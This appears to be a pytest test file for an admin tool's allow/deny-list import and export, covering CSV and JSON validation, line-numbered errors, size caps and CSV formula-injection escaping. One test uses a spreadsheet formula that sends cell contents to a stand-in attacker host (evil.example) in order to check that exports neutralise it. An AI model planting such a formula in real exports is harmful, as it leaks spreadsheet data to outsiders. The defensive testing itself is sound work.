"""Parsing allow/deny-list imports (CSV and JSON): every line validated, errors by line."""

from __future__ import annotations

from collections.abc import Callable

import orjson
import pytest

from kroonika.admin import TooLarge
from kroonika.admin._bulk import IMPORT_MAX, Outcomes, export_lists, parse_list_import

HEADER = "list,kind,value,reason,expires_at\n"


def test_csv_good_lines_are_normalised() -> None:
    """Lists and kinds are case-insensitive, IPs become networks, subjects upper case."""
    data = HEADER + "DENY,ip,203.0.113.7,seen in attack,\nallow,Subject,ee38001085718,vip,99\n"
    good, errors = parse_list_import(data.encode(), "csv")
    assert errors == []
    assert [(g.line, g.list, g.kind, g.value, g.expires_at) for g in good] == [
        (2, "deny", "ip", "203.0.113.7/32", None),
        (3, "allow", "subject", "EE38001085718", 99),
    ]


def test_a_bare_personal_code_gets_the_prefix_tara_gives_it() -> None:
    """A subject entry of 11 digits names the person TARA calls EE<code>."""
    good, errors = parse_list_import((HEADER + "deny,subject,38001085718,fraud,\n").encode(), "csv")
    assert errors == []
    assert [g.value for g in good] == ["EE38001085718"]


def test_csv_bad_lines_are_named_by_line_number() -> None:
    """Each bad line gives one error with its line (the header is line 1); good lines stay."""
    data = (
        HEADER
        + "deny,ip,not-an-ip,attack,\n"  # 2
        + "grey,ip,203.0.113.7,attack,\n"  # 3
        + "deny,cookie,x,attack,\n"  # 4
        + "deny,jti,abc,no,\n"  # 5: reason too short
        + "deny,jti,abc,valid reason,tomorrow\n"  # 6
        + "deny,jti,abc,valid reason,\n"  # 7: good
        + "deny,jti,abc,again the same,\n"  # 8: duplicate of 7
    )
    good, errors = parse_list_import(data.encode(), "csv")
    assert [g.line for g in good] == [7]
    assert [e["line"] for e in errors] == [2, 3, 4, 5, 6, 8]
    assert "list must be one of" in errors[1]["error"]
    assert "kind must be one of" in errors[2]["error"]
    assert "reason must be" in errors[3]["error"]
    assert "epoch seconds" in errors[4]["error"]
    assert errors[5]["error"] == "duplicate of an earlier line"


@pytest.mark.parametrize("expires", ["99999999999999999999999", "-1", "253402300800"])
def test_an_expiry_outside_epoch_seconds_is_a_line_error(expires: str) -> None:
    """An expiry no database column can hold (or before 1970) is refused on its line."""
    data = HEADER + f"deny,jti,abc,valid reason,{expires}\n" + "deny,jti,def,valid reason,\n"
    entry = '{"list": "deny", "kind": "jti", "value": "abc", "reason": "why not", "expires_at": '
    for doc, fmt, line in [(data, "csv", 2), (f"[{entry}{expires}}}]", "json", 1)]:
        good, errors = parse_list_import(doc.encode(), fmt)
        assert [g.line for g in good] == ([3] if fmt == "csv" else [])
        assert [e["line"] for e in errors] == [line]
        assert "epoch seconds" in errors[0]["error"]


@pytest.mark.parametrize(
    "line", ["deny,jti,a\x00b,valid reason,", "deny,jti,abc,reason \x1b[2J wiped,"]
)
def test_nul_and_terminal_codes_are_a_line_error(line: str) -> None:
    """A NUL (refused by PostgreSQL) or an escape sequence in a value or reason is refused
    on its line."""
    good, errors = parse_list_import((HEADER + line + "\n").encode(), "csv")
    assert good == []
    assert errors == [{"line": 2, "error": "value and reason are printable characters only"}]


def test_a_csv_field_over_the_csv_module_limit_is_a_line_error() -> None:
    """A field longer than the csv module reads is an error on its line, not a crash."""
    data = HEADER + "deny,jti,abc,valid reason,\n" + "deny,jti," + "a" * 200_000 + ",why,\n"
    good, errors = parse_list_import(data.encode(), "csv")
    assert [g.line for g in good] == [2]
    assert errors[0]["line"] == 3
    assert "CSV" in errors[0]["error"]


@pytest.mark.parametrize(
    "entry",
    [
        {"list": "deny", "kind": "jti", "value": {"nested": 1}, "reason": "valid reason"},
        {"list": "deny", "kind": "jti", "value": ["a"], "reason": "valid reason"},
        {"list": "deny", "kind": "jti", "value": "abc", "reason": ["valid", "reason"]},
        {"list": ["deny"], "kind": "jti", "value": "abc", "reason": "valid reason"},
    ],
)
def test_json_fields_that_are_not_strings_are_a_line_error(entry: dict[str, object]) -> None:
    """An object or array where a text belongs is refused, not stored as its Python repr."""
    good, errors = parse_list_import(orjson.dumps([entry]), "json")
    assert good == []
    assert [e["line"] for e in errors] == [1]


def test_csv_without_the_required_header_is_refused_as_a_whole() -> None:
    """A header missing a required column is one error on line 1 and no entries."""
    good, errors = parse_list_import(b"list,kind,value\ndeny,ip,1.2.3.4\n", "csv")
    assert good == []
    assert errors == [
        {"line": 1, "error": "header must name list, kind, value, reason, expires_at"}
    ]


def test_csv_must_be_utf8_and_may_carry_a_bom() -> None:
    """Latin-1 bytes are refused; a UTF-8 byte-order mark is accepted."""
    assert parse_list_import(b"\xff\xfe" + HEADER.encode(), "csv")[1][0]["error"] == "not UTF-8"
    good, errors = parse_list_import(
        ("\ufeff" + HEADER + "deny,jti,abc,a reason,\n").encode(), "csv"
    )
    assert errors == []
    assert len(good) == 1


def test_json_array_or_entries_object() -> None:
    """A JSON array or {"entries": [...]}; positions are 1-based; non-objects are errors."""
    entry = {"list": "deny", "kind": "client", "value": "c1", "reason": "abuse"}
    for doc in ([entry, 7], {"entries": [entry, 7]}):
        good, errors = parse_list_import(orjson.dumps(doc), "json")
        assert [g.line for g in good] == [1]
        assert errors == [{"line": 2, "error": "an object per entry"}]


@pytest.mark.parametrize(
    ("data", "fmt", "error"),
    [
        (b"{not json", "json", "not JSON"),
        (b'"a string"', "json", "a JSON array"),
        (b"[]", "xml", "format is csv or json"),
    ],
)
def test_unusable_documents(data: bytes, fmt: str, error: str) -> None:
    """Documents that cannot be read at all give one error on line 0."""
    good, errors = parse_list_import(data, fmt)
    assert good == []
    assert errors[0]["line"] == 0
    assert error in errors[0]["error"]


def test_export_can_be_imported_again() -> None:
    """An exported CSV is a valid import (round trip of list, kind, value, reason, expiry)."""

    class E:
        def __init__(self, **kw: object) -> None:
            self.__dict__.update(kw)

    entries = [
        E(id="1", list="deny", kind="ip", value="203.0.113.0/24", reason="botnet",
          created_by="t", created_at=1, expires_at=None),
        E(id="2", list="allow", kind="jti", value="j-1", reason="test run",
          created_by="t", created_at=1, expires_at=50),
    ]  # fmt: skip
    good, errors = parse_list_import(export_lists(entries, "csv"), "csv")
    assert errors == []
    assert [(g.list, g.kind, g.value, g.reason, g.expires_at) for g in good] == [
        ("deny", "ip", "203.0.113.0/24", "botnet", None),
        ("allow", "jti", "j-1", "test run", 50),
    ]


def test_a_csv_export_cannot_carry_a_spreadsheet_formula() -> None:
    """A cell that a spreadsheet would run as a formula (=, +, -, @, TAB, CR first) is
    exported with a leading apostrophe, and the import takes it off again."""

    class E:
        def __init__(self, **kw: object) -> None:
            self.__dict__.update(kw)

    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    entries = [
        E(id="1", list="deny", kind="jti", value="-starts-with-dash", reason=formula,
          created_by="@someone", created_at=1, expires_at=None),
        E(id="2", list="deny", kind="client", value="+cmd", reason="'quoted already",
          created_by="t", created_at=1, expires_at=None),
    ]  # fmt: skip
    exported = export_lists(entries, "csv").decode()
    cells = [c for line in exported.splitlines()[1:] for c in line.split(",")]
    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), exported
    good, errors = parse_list_import(exported.encode(), "csv")
    assert errors == []
    assert [(g.value, g.reason) for g in good] == [
        ("-starts-with-dash", formula),
        ("+cmd", "'quoted already"),
    ]


def test_outcome_digest_depends_on_every_status() -> None:
    """The admin.bulk digest changes when any one item's status changes."""
    a, b = Outcomes(), Outcomes()
    a.add(0, "ok")
    a.add(1, "ok")
    b.add(0, "ok")
    b.add(1, "not_found")
    assert a.summary() == {"requested": 2, "succeeded": 2, "failed": 0}
    assert b.summary() == {"requested": 2, "succeeded": 1, "failed": 1}
    assert a.digest() != b.digest()


def _csv_lines(n: int) -> bytes:
    return (HEADER + "".join(f"deny,jti,j{i},leaked,\n" for i in range(n))).encode()


def _json_entries(n: int) -> bytes:
    return orjson.dumps(
        [{"list": "deny", "kind": "jti", "value": f"j{i}", "reason": "leaked"} for i in range(n)]
    )


@pytest.mark.parametrize(("fmt", "make"), [("csv", _csv_lines), ("json", _json_entries)])
def test_an_import_may_carry_exactly_the_cap(fmt: str, make: Callable[[int], bytes]) -> None:
    """IMPORT_MAX entries are accepted, one more is TooLarge (413, too_many_entries)."""
    good, errors = parse_list_import(make(IMPORT_MAX), fmt)
    assert (len(good), errors) == (IMPORT_MAX, [])
    with pytest.raises(TooLarge) as caught:
        parse_list_import(make(IMPORT_MAX + 1), fmt)
    assert (caught.value.status, caught.value.code) == (413, "too_many_entries")


def test_bad_lines_count_against_the_cap() -> None:
    """The cap counts entries, not valid ones: bad lines cannot carry a larger import."""
    data = HEADER + "deny,ip,not-an-ip,attack,\n" * 3 + "deny,jti,ok,leaked,\n"
    with pytest.raises(TooLarge):
        parse_list_import(data.encode(), "csv", limit=3)
    wrapped = orjson.dumps({"entries": [5, 6, 7, 8]})
    with pytest.raises(TooLarge):
        parse_list_import(wrapped, "json", limit=3)
